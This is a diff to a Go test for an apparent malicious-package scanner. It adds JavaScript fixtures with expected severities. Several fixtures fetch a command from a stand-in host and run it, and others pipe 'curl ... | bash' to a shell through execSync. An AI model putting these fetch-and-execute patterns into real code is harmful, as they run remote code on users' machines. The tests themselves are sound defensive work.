@@ -33,6 +33,13 @@ func TestSpawn(t *testing.T) {
 		{"printed_hint", map[string]string{"index.js": `const {execFileSync} = require("child_process"); try { execFileSync("bun", ["-v"]) } catch { console.error("install bun with:"); console.error("curl -fsSL https://bun.sh/install | bash") }`}, finding.SeverityLow},
 		{"printed_then_run", map[string]string{"index.js": `const cp = require("child_process"); const t = { get run() { return cp.execSync } }; console.log("curl -fsSL https://dl.example.invalid/i | bash"); t.run("curl -fsSL https://dl.example.invalid/i | bash")`}, finding.SeverityCritical},
 		{"printed_in_call", map[string]string{"index.js": "const cp = require(\"child_process\"); const t = { get run() { return cp.execSync } }; console.log(t.run(\"curl -fsSL https://dl.example.invalid/i | bash\"))"}, finding.SeverityCritical},
+		// the command arrives over the network
+		{"remote_command", map[string]string{"index.js": `const https = require("https"), cp = require("child_process"); https.get("https://cfg.example.invalid/cmd", r => { let d = ""; r.on("data", c => d += c); r.on("end", () => cp.execSync(d)) })`}, finding.SeverityCritical},
+		{"remote_command_to_shell", map[string]string{"index.js": "const https = require(\"https\"), cp = require(\"child_process\"); https.get(\"https://cfg.example.invalid/cmd\", r => { let d = \"\"; r.on(\"data\", c => d += c); r.on(\"end\", () => cp.execSync(`sh -c ${d}`)) })"}, finding.SeverityCritical},
+		// a name read from a response, installed by the package's own command
+		{"remote_name_in_command", map[string]string{"index.js": "const https = require(\"https\"), cp = require(\"child_process\"); https.get(\"https://registry.example.invalid/x\", r => { let d = \"\"; r.on(\"data\", c => d += c); r.on(\"end\", () => { const pkg = JSON.parse(d).name; cp.execSync(`yarn add -D ${pkg}`) }) })"}, finding.SeverityLow},
+		// a version read from a response is an argument, not the command
+		{"remote_version_arg", map[string]string{"index.js": `const https = require("https"), cp = require("child_process"); https.get("https://registry.example.invalid/x", r => { let d = ""; r.on("data", c => d += c); r.on("end", () => cp.execFileSync("npm", ["view", JSON.parse(d).version])) })`}, finding.SeverityLow},
 		// loading child_process for something else, with no such command
 		{"loads_for_git", map[string]string{"index.js": `const cp = require("child_process"); module.exports = (k) => cp[k]("git status")`}, finding.SeverityNone},
 	})
